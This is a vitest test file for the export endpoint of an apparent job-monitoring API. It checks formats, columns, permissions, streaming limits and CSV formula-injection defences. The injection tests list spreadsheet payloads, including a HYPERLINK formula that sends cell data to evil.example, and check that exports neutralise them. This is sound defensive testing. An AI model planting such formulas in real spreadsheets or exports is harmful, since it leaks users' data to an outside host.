import { once } from "node:events";
import { request as httpRequest } from "node:http";
import type { IncomingMessage } from "node:http";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";

import { API_PREFIX, createQueryApp } from "@jobscope/query-api";
import type { Authenticate, Principal } from "@jobscope/query-api";
import type { AuditEntry, ErrorGroup, RunQuery, StoredAudit, StoreReader } from "@jobscope/store";
import type { Run } from "@jobscope/tracker";
import { describe, expect, it, onTestFinished, vi } from "vitest";

import { ALERTS } from "../../../test/alert-samples.ts";
import { apiDeps, KEY, serve, serveApi } from "../../../test/api-server.ts";
import type { Answer, ApiServer } from "../../../test/api-server.ts";
import { parseCsv } from "../../../test/csv.ts";
import { memoryReader } from "../../../test/memory-reader.ts";
import { READERS } from "../../../test/readers.ts";
import { BILLING, CLEANUP, FAILED, INVOICE, NOW, runOf, RUNS, SLOTS } from "../../../test/samples.ts";
import { servedOver } from "../../../test/served-over.ts";
import { ALERT_COLUMNS, AUDIT_COLUMNS, ERROR_COLUMNS, RUN_COLUMNS, SLOT_COLUMNS } from "../../model/export-columns.ts";
import { flattened } from "../../shape/csv-cells.ts";
import { shapeAlert } from "../../shape/shape-alert.ts";
import { shapeAudit } from "../../shape/shape-audit.ts";
import { shapeError } from "../../shape/shape-error.ts";
import { shapeRun } from "../../shape/shape-run.ts";
import { shapeSlot } from "../../shape/shape-slot.ts";

const ENTRY: AuditEntry = {
  atMs: NOW,
  actor: "admin-key",
  role: "admin",
  action: "alerts.suppress",
  target: "s-1",
  outcome: "done",
  detail: "=1+1",
  address: "127.0.0.0",
  requestId: "r-1",
  count: 1,
};
const AUDITED: StoredAudit = { ...ENTRY, sequence: 1, digest: "d" };

const GROUP: ErrorGroup = {
  id: "e1",
  service: BILLING,
  source: "run",
  errorType: "TypeError",
  pattern: "",
  culprit: "",
  message: "",
  messageLength: 0,
  firstMs: NOW,
  lastMs: NOW,
  count: 1,
  jobs: 1,
  trend: [1],
  sampleRunKey: undefined,
};

/** However busy the machine is. */
const SOON = { timeout: 20_000, interval: 100 };

/** Runs without end, or as many as there are to be. */
function runsReader(total: number, fields: Partial<Run> = {}): StoreReader {
  const sample = runOf(INVOICE, 7, fields);
  return {
    ...memoryReader(),
    async runs({ limit, cursor = "0" }: RunQuery) {
      // As from another thread: others get their turn.
      await new Promise((resolve) => void setImmediate(resolve));
      const from = Number(cursor);
      const count = Math.min(limit, total - from);
      const items = Array.from({ length: count }, (_, index) => ({ ...sample, runId: `r-${from + index}` }));
      return { items, ...(from + count < total && { nextCursor: String(from + count) }) };
    },
  };
}

/** Until a number that would grow for ever has stood still for a while. */
async function untilQuiet(count: () => number): Promise<void> {
  let [before, quiet] = [-1, 0];
  await vi.waitFor(() => {
    const now = count();
    quiet = now === before ? quiet + 1 : 0;
    before = now;
    expect(quiet).toBeGreaterThan(3);
  }, SOON);
}

async function open(api: ApiServer, query: string, authorization = `Bearer ${KEY}`): Promise<IncomingMessage> {
  const headers = { authorization };
  const path = `${API_PREFIX}/export?${query}`;
  const request = httpRequest({ host: "127.0.0.1", port: api.port, path, headers, agent: false }).end();
  const [response] = await once(request, "response");
  return response;
}

describe.each(READERS)("over %s", (_name, openReader) => {
  const api = servedOver(openReader);

  async function get(query: string): Promise<Answer> {
    const answer = await api.ask(`export?${query}`);
    expect([query, answer.status, answer.status === 200 ? "" : answer.text]).toEqual([query, 200, ""]);
    return answer;
  }

  it.each([
    ["runs", RUNS.length],
    ["slots", SLOTS.length - 1],
    ["slots&state=expected,met,missed", SLOTS.length],
    ["runs&state=failure,error", 13],
    ["runs&result=failure&job=cleanup", 1],
    ["alerts&state=pending,firing,stale,resolved", ALERTS.length],
    ["alerts&active=true&severity=critical", 1],
    ["runs&job=none", 0],
  ])("holds all of %s in each format", async (query, count) => {
    const { items } = (await get(`type=${query}`)).json;
    expect(items).toHaveLength(count);
    const { text } = await get(`type=${query}&format=ndjson`);
    const lines = text.split("\n");
    expect(lines.pop()).toBe("");
    expect(lines.map((line) => JSON.parse(line))).toEqual(items);
    const [head, ...rows] = parseCsv((await get(`type=${query}&format=csv`)).text);
    expect(rows).toHaveLength(count);
    for (const row of rows) expect(row).toHaveLength(head!.length);
  });

  it("gives the resources of the list, in its order", async () => {
    const list = (await api.ask("runs?limit=1000")).json.items;
    const { items } = (await get("type=runs")).json;
    const comparable = ({ error, ...rest }: Answer["json"]): object => ({ ...rest, error: error?.type });
    expect(items.map(comparable)).toEqual(list.map(comparable));
    const failed = items.find(({ id }: Answer["json"]) => id === FAILED.key);
    expect([failed.error.message.length > 300, failed.error.message_length]).toEqual([
      true,
      FAILED.errorMessage?.length,
    ]);
  });

  it("is a file whose name says what it is and of when", async () => {
    const types = { json: "application/json", ndjson: "application/x-ndjson", csv: "text/csv" };
    for (const [format, type] of Object.entries(types)) {
      const { headers } = await get(`type=runs&format=${format}`);
      expect(headers["content-disposition"]).toBe(
        `attachment; filename="jobscope-runs-2026-11-25T12-00-00Z.${format}"`,
      );
      expect(String(headers["content-type"]).startsWith(`${type}; charset=utf-8`)).toBe(true);
      expect(headers["cache-control"]).toBe("private, no-store");
      expect(headers["x-content-type-options"]).toBe("nosniff");
    }
  });
});

it("holds the groups of errors, as their list does", async () => {
  const opened = READERS.at(-1)![1]();
  await using api = await serveApi({ reader: opened.reader });
  const list = (await api.ask("errors?limit=1000&job=cleanup")).json.items;
  expect(list).toMatchObject([{ error_type: "TypeError" }]);
  const asked = vi.spyOn(opened.reader, "errors");
  const { items } = (await api.ask("export?type=errors&job=cleanup&error_type=TypeError&source=run")).json;
  // In the list's own order a group that is seen again meanwhile would move past the page that is read next.
  expect(asked).toHaveBeenLastCalledWith(expect.objectContaining({ order: "first_seen" }), expect.anything());
  expect(items.map(({ id }: Answer["json"]) => id)).toEqual(list.map(({ id }: Answer["json"]) => id));
  const [head = [], row = []] = parseCsv((await api.ask("export?type=errors&format=csv&job=cleanup")).text);
  expect(head).toEqual(ERROR_COLUMNS);
  expect(JSON.parse(row[head.indexOf("trend")] ?? "")).toEqual(list[0].trend);
  expect(row[head.indexOf("message")]).toMatch(/^'=HYPERLINK/);
  opened.close();
});

describe("columns", () => {
  it.each<readonly [string, readonly string[], object]>([
    ["runs", RUN_COLUMNS, shapeRun(FAILED)],
    ["slots", SLOT_COLUMNS, shapeSlot(SLOTS[0]!)],
    ["alerts", ALERT_COLUMNS, shapeAlert(ALERTS[0]!)],
    ["errors", ERROR_COLUMNS, shapeError(GROUP)],
    ["audit", AUDIT_COLUMNS, shapeAudit(AUDITED)],
  ])("of %s are all that the resource says", (_type, columns, resource) => {
    expect(columns.toSorted()).toEqual(
      flattened(resource)
        .map(([key]) => key)
        .toSorted(),
    );
  });

  it("leave empty what is not known, and quote what is an empty text", async () => {
    await using api = await serveApi({ reader: runsReader(1, { errorMessage: "", durationMs: 0 }) });
    const { text } = await api.ask("export?type=runs&format=csv");
    const [head = "", row = ""] = text.split("\r\n");
    const at = (column: string): string | undefined => row.split(",")[head.split(",").indexOf(column)];
    expect([at("error_type"), at("error_message"), at("duration_seconds"), at("provisional")]).toEqual([
      "",
      '""',
      "0",
      "false",
    ]);
  });
});

describe("a spreadsheet", () => {
  const TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u200b=1",
    "\ufeff=1",
    "\u0000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'",
    "'=1",
    "''",
    '"=1"',
    "1e3",
    "a,b;c\td\r\ne",
    "plain",
    "",
  ];

  it.each(TEXTS)("sees a text in %j, from which the original can be read back", async (given) => {
    await using api = await serveApi({ reader: runsReader(1, { errorType: given, errorMessage: given }) });
    const [head = [], row = []] = parseCsv((await api.ask("export?type=runs&format=csv")).text);
    const cell = row[head.indexOf("error_message")] ?? "none";
    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r]/u);
    expect(cell.replace(/^'/, "")).toBe(given);
    const [item] = (await api.ask("export?type=runs")).json.items;
    expect(item.error.message).toBe(given);
  });

  it("sees names of jobs as texts, and numbers as numbers", async () => {
    const fields = { jobName: TEXTS[0]!, delayMs: -5000, durationMs: 1e6 };
    await using api = await serveApi({ reader: runsReader(1, fields) });
    const { text } = await api.ask("export?type=runs&format=csv");
    const [head = [], row = []] = parseCsv(text);
    const at = (column: string): string => row[head.indexOf(column)] ?? "none";
    expect(at("job_name")).toBe(`'${TEXTS[0]}`);
    expect([Number(at("delay_seconds")), Number(at("duration_seconds"))]).toEqual([-5, 1000]);
    expect(text).toContain(",1000,-5,");
  });
});

describe("who may", () => {
  const as = (principal: Principal): Promise<ApiServer> =>
    serveApi({
      authenticate: () => principal,
      reader: { ...memoryReader(), audit: async () => ({ items: [AUDITED] }) },
    });

  it("everybody with a key may export, the audit an admin alone", async () => {
    const results = await Promise.all(
      [
        { id: "v", role: "viewer" } as const,
        { id: "o", role: "operator" } as const,
        { id: "a", role: "admin" } as const,
        { id: "n", role: "admin", scopes: ["export"] } as const,
        { id: "r", role: "admin", scopes: ["read", "audit:read"] } as const,
      ].map(async (principal) => {
        await using api = await as(principal);
        return [(await api.ask("export?type=runs")).status, (await api.ask("export?type=audit")).status];
      }),
    );
    expect(results).toEqual([
      [200, 403],
      [200, 403],
      [200, 200],
      [200, 403],
      [403, 403],
    ]);
  });

  it("gets the audit as the other lists", async () => {
    await using api = await as({ id: "a", role: "admin" });
    expect((await api.ask("export?type=audit")).json.items).toEqual([shapeAudit(AUDITED)]);
    const [head = [], row = []] = parseCsv((await api.ask("export?type=audit&format=csv&outcome=done")).text);
    expect(head).toEqual(AUDIT_COLUMNS);
    expect(row[head.indexOf("detail")]).toBe("'=1+1");
  });
});

it.each([
  ["", "type", "type=runs"],
  ["type=run", "type", "runs"],
  ["type=runs&type=slots", "type", "once"],
  ["type=runs&format=xml", "format", "ndjson"],
  ["type=runs&limit=5", "limit", "Allowed: type, format,"],
  ["type=runs&cursor=x", "cursor", "Allowed: type, format,"],
  ["type=slots&result=failure", "result", "state"],
  ["type=runs&state=met", "state", "success"],
  ["type=runs&state=failure&result=failure", "result", "state"],
  ["type=runs&from=2026-11-25&to=2026-11-24", "to", "after"],
])("refuses %j", async (query, parameter, fix) => {
  await using api = await serveApi();
  const answer = await api.ask(`export?${query}`);
  expect([answer.status, answer.json.parameter]).toEqual([400, parameter]);
  expect(answer.json.fix).toContain(fix);
});

it("answers HEAD without reading anything", async () => {
  const runs = vi.fn<StoreReader["runs"]>();
  await using api = await serveApi({ reader: { ...memoryReader(), runs } });
  const answer = await api.ask("export?type=runs", { method: "HEAD" });
  expect([answer.status, answer.text]).toEqual([200, ""]);
  expect(answer.headers["content-disposition"]).toContain("jobscope-runs-");
  expect(runs).not.toHaveBeenCalled();
});

describe("while it is sent", () => {
  /** Fails at the `failing`th page. */
  function failingReader(failing: number): StoreReader {
    const reader = runsReader(Infinity);
    let pages = 0;
    return {
      ...reader,
      runs: (query) => (++pages === failing ? Promise.reject(new Error("disk on fire")) : reader.runs(query)),
    };
  }

  it("tells as a problem what fails at once", async () => {
    await using api = await serveApi({ reader: failingReader(1) });
    const answer = await api.ask("export?type=runs");
    expect([answer.status, answer.headers["content-disposition"]]).toEqual([503, undefined]);
    expect(answer.json.type).toBe("urn:jobscope:problem:store_unavailable");
  });

  it.each(["json", "ndjson", "csv"])(
    "is cut where making it fails midway: nobody takes half of %s for all",
    async (format) => {
      await using api = await serveApi({ reader: failingReader(5) });
      const response = await open(api, `type=runs&format=${format}`);
      expect(response.statusCode).toBe(200);
      let bytes = 0;
      const read = async (): Promise<void> => {
        for await (const chunk of response) bytes += (chunk as Buffer).length;
      };
      await expect(read()).rejects.toThrow("aborted");
      expect(bytes).toBeGreaterThan(0);
      await expect(fetch(`${api.url}${API_PREFIX}/export?type=runs&format=${format}`)).resolves.toMatchObject({
        status: 401,
      });
      await vi.waitFor(() => expect(api.failures).toMatchObject([{ path: `${API_PREFIX}/export` }]), SOON);
    },
  );

  it("ends when its reader goes away, which is nobody's failure", async () => {
    const reader = runsReader(Infinity);
    const runs = vi.fn<StoreReader["runs"]>(reader.runs);
    await using api = await serveApi({ reader: { ...reader, runs } });
    const response = await open(api, "type=runs&format=ndjson");
    await once(response, "data");
    response.destroy();
    await untilQuiet(() => runs.mock.calls.length);
    expect(api.failures).toEqual([]);
    expect((await api.ask("status")).status).toBe(200);
  });

  it("is one of four at once, of one key one of two, and makes room when it ends", async () => {
    const authenticate: Authenticate = ({ headers }) => ({ id: String(headers.authorization), role: "viewer" });
    await using api = await serveApi({ reader: runsReader(Infinity), authenticate });
    const [mine, theirs] = [`Bearer ${KEY}`, "Bearer other"];
    const opened = await Promise.all([mine, mine].map((key) => open(api, "type=runs&format=csv", key)));
    for (const response of opened) response.pause();
    const ofKey = await api.ask("export?type=slots");
    expect([ofKey.status, ofKey.json.detail]).toEqual([429, "2 exports of this key are being made already."]);
    expect((await api.ask("export?type=slots", { authorization: theirs })).status).toBe(200);
    for (let count = 0; count < 2; count++) opened.push(await open(api, "type=runs&format=csv", theirs));
    for (const response of opened) response.pause();
    const refused = await api.ask("export?type=slots", { authorization: "Bearer third" });
    expect([refused.status, refused.json.type, refused.headers["retry-after"]]).toEqual([
      429,
      "urn:jobscope:problem:too_many_requests",
      "10",
    ]);
    expect((await api.ask("export?type=runs", { method: "HEAD" })).status).toBe(200);
    opened[0]?.destroy();
    await vi.waitFor(async () => expect((await api.ask("export?type=slots")).status).toBe(200), {
      ...SOON,
      interval: 500,
    });
    expect((await api.ask("export?type=slots")).status).toBe(200);
    for (const response of opened) response.destroy();
  });

  it("is cut when its key is revoked", async () => {
    let isRevoked = false;
    const denied: AuditEntry[] = [];
    await using api = await serveApi({
      reader: runsReader(Infinity),
      authenticate: () => (isRevoked ? { denied: "the key is revoked", keyId: "k1" } : { id: "k1", role: "viewer" }),
      auditor: { deny: (entry) => void denied.push(entry), flush: async () => {}, close: async () => {} },
    });
    const response = await open(api, "type=runs&format=ndjson");
    await once(response, "data");
    isRevoked = true;
    const read = async (): Promise<void> => {
      for await (const _chunk of response) continue;
    };
    await expect(read()).rejects.toThrow("aborted");
    await vi.waitFor(() => expect(denied).toMatchObject([{ actor: "k1", target: "GET /export" }]), SOON);
    expect(api.failures).toEqual([]);
  });

  it("brings no warning of a leak, whoever else listens for its end", async () => {
    const warnings: Error[] = [];
    const listen = (warning: Error): void => void warnings.push(warning);
    process.on("warning", listen);
    onTestFinished(() => void process.off("warning", listen));
    const app = createQueryApp({ ...apiDeps(), reader: runsReader(1000), onAccess: () => {}, limits: {} });
    await using api = await serve((request, response) => {
      // As a server that counts, logs and waits for its requests does.
      for (let count = 0; count < 6; count++) response.on("close", () => {});
      app(request, response);
    });
    expect((await api.ask("export?type=runs")).status).toBe(200);
    // Warnings are told in a later turn.
    await new Promise((resolve) => void setImmediate(resolve));
    expect(warnings).toEqual([]);
  });

  it("makes room too where its reader goes away before it began", async () => {
    const gate = Promise.withResolvers<void>();
    const reader = runsReader(Infinity);
    const runs = vi.fn<StoreReader["runs"]>(async (query) => {
      await gate.promise;
      return reader.runs(query);
    });
    await using api = await serveApi({ reader: { ...reader, runs } });
    const path = `${API_PREFIX}/export?type=runs&format=ndjson`;
    const headers = { authorization: `Bearer ${KEY}` };
    const requests = Array.from({ length: 2 }, () =>
      httpRequest({ host: "127.0.0.1", port: api.port, path, headers, agent: false })
        .on("error", () => {})
        .end(),
    );
    await vi.waitFor(() => expect(runs).toHaveBeenCalledTimes(2), SOON);
    const ended = requests.map((request) => new Promise((resolve) => void request.once("close", resolve)));
    for (const request of requests) request.destroy();
    await Promise.all(ended);
    // The server has heard of it once it answers somebody else.
    expect((await api.ask("status")).status).toBe(200);
    gate.resolve();
    await vi.waitFor(async () => expect((await api.ask("export?type=slots")).status).toBe(200), {
      ...SOON,
      interval: 500,
    });
    expect(api.failures).toEqual([]);
  });

  it("goes no faster than it is taken", async () => {
    const reader = runsReader(Infinity);
    const runs = vi.fn<StoreReader["runs"]>(reader.runs);
    await using api = await serveApi({ reader: { ...reader, runs } });
    const response = await open(api, "type=runs&format=ndjson");
    response.pause();
    await untilQuiet(() => runs.mock.calls.length);
    // What the buffers of two sockets hold, of pages of 300 kB.
    expect(runs.mock.calls.length).toBeLessThan(100);
    response.destroy();
  });

  it("takes a million runs in bounded memory while others are answered", { timeout: 120_000 }, async () => {
    setFlagsFromString("--expose-gc");
    const collect: () => void = runInNewContext("gc");
    const used = (): number => {
      collect();
      return process.memoryUsage().heapUsed;
    };
    const total = 1_000_000;
    await using api = await serveApi({ reader: runsReader(total) });
    const before = used();
    let [lines, highest, answered] = [0, 0, 0];
    const response = await open(api, "type=runs&format=ndjson");
    for await (const chunk of response) {
      const step = Math.floor(lines / 100_000);
      for (let at = (chunk as Buffer).indexOf(10); at >= 0; at = (chunk as Buffer).indexOf(10, at + 1)) lines++;
      if (Math.floor(lines / 100_000) === step) continue;
      highest = Math.max(highest, used());
      const status = await api.ask("status");
      if (status.status === 200) answered++;
    }
    expect(lines).toBe(total);
    expect(response.complete).toBe(true);
    expect(highest - before).toBeLessThan(100 * 2 ** 20);
    expect(answered).toBe(10);
  });
});

it("keeps a thousand fat errors from filling the memory, and shows how long they were", async () => {
  const message = "x".repeat(65_536);
  await using api = await serveApi({
    reader: runsReader(1000, { state: "failure", errorMessage: message, jobId: CLEANUP.id }),
  });
  const { items } = (await api.ask("export?type=runs")).json;
  expect(items).toHaveLength(1000);
  expect([items[0].error.message.length, items[0].error.message_length]).toEqual([16_384, 65_536]);
});
